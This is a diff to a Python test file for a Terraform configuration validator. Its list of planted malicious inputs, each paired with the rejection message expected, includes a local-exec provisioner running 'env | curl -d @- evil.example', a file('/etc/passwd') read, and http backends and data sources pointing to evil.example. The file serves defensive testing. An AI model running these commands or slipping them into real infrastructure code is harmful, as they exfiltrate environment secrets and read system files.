@@ -63,6 +63,7 @@ def _set(path, value):
 
 
 DEV = "pricing-dev"
+DEV_ID = '${data.terraform_remote_state.organization.outputs.account_ids["pricing-dev"]}'
 PLANTED = [
     ("http data source", lambda d: d["data"].update({"http": {"x": {"url": "https://evil.example"}}}), 'data source "http" is not allowed'),
     (
@@ -87,9 +88,9 @@ PLANTED = [
         lambda d: d["resource"]["aws_vpc"]["vpc"].update({"provisioner": [{"local-exec": {"command": "env | curl -d @- evil.example"}}]}),
         "resource aws_vpc.vpc: `provisioner` is not allowed",
     ),
-    ("a module", lambda d: d.update({"module": {"m": {"source": "git::https://evil.example/m"}}}), 'top-level block "module" is not allowed'),
+    ("a module", lambda d: d.update({"module": {"m": {"source": "git::evil"}}}), 'top-level block "module" is not allowed'),
     ("a check block", lambda d: d.update({"check": {"c": {}}}), 'top-level block "check" is not allowed'),
-    ("locals", lambda d: d.update({"locals": {"x": "${file(\"/etc/passwd\")}"}}), 'top-level block "locals" is not allowed'),
+    ("locals", lambda d: d.update({"locals": {"x": '${file("/etc/passwd")}'}}), 'top-level block "locals" is not allowed'),
     (
         "http backend",
         lambda d: d["terraform"].update({"backend": {"http": {"address": "https://evil.example"}}}),
@@ -139,7 +140,7 @@ PLANTED = [
     ),
     (
         "assume_role with a fixed role",
-        _set(["provider", "aws", 0, "assume_role", 0, "role_arn"], "arn:aws:iam::${data.terraform_remote_state.organization.outputs.account_ids[\"pricing-dev\"]}:role/Admin"),
+        _set(["provider", "aws", 0, "assume_role", 0, "role_arn"], f"arn:aws:iam::{DEV_ID}:role/Admin"),
         "is not an account's role the compiler assumes",
     ),
     (
@@ -155,7 +156,9 @@ PLANTED = [
     ("an unknown region", _set(["provider", "aws", 0, "region"], "us-east-1"), 'provider.aws[0].region: "us-east-1" is not a region'),
     (
         "remote state over http",
-        lambda d: d["data"]["terraform_remote_state"].update({"identity": {"backend": "http", "config": {"address": "https://evil.example"}}}),
+        lambda d: d["data"]["terraform_remote_state"].update(
+            {"identity": {"backend": "http", "config": {"address": "https://evil.example"}}}
+        ),
         'data terraform_remote_state.identity.backend: "http" where the compiler writes "s3"',
     ),
     (
@@ -180,13 +183,13 @@ PLANTED = [
     ),
     ("a directive", _set(["resource", "aws_vpc", "vpc", "cidr_block"], "%{ if true }x%{ endif }"), "a template directive"),
     ("a heredoc", _set(["resource", "aws_vpc", "vpc", "cidr_block"], "${<<EOT\nx\nEOT\n}"), "a comment or heredoc"),
-    ("an array where blocks go", lambda d: d.update({"data": [{"external": {"x": {"program": ["sh"]}}}]}), "data: a JSON list where the compiler"),
+    ("an array where blocks go", lambda d: d.update({"data": [{"external": {"x": {}}}]}), "data: a JSON list where the compiler"),
     (
         "an array where one block goes",
         _set(["resource", "aws_vpc", "vpc"], [{"cidr_block": "10.0.0.0/16"}, {"provisioner": []}]),
         "resource aws_vpc.vpc: a JSON list where the compiler writes one block body",
     ),
-    ("a removed block with a provisioner", lambda d: d.update({"removed": [{"from": "aws_vpc.vpc", "provisioner": []}]}), "removed[0]: only"),
+    ("a removed block with a provisioner", lambda d: d.update({"removed": [{"from": "x", "provisioner": []}]}), "removed[0]: only"),
     ("an import of another kind", lambda d: d.update({"import": [{"id": "x", "to": "aws_vpc.vpc", "for_each": "x"}]}), "import[0]: only"),
 ]
 
@@ -217,7 +220,7 @@ def test_strict_json_refuses_what_terraform_and_python_read_differently():
 
 def test_the_scan_reads_escapes_as_terraform_does():
     found = Found()
-    scan_template("$${file(x)} %%{ if } ${contains([\"a(\"], var.access_mode)}", found)
+    scan_template('$${file(x)} %%{ if } ${contains(["a("], var.access_mode)}', found)
     assert found.calls == {"contains"}, "escaped templates are text; a call inside a quoted string is not a call"
     for hidden in ('${"}" == file("x")}', "${ tolist (x)}", '${x ? "a" : lower("B")}', "${{a = upper(b)}}"):
         found = Found()
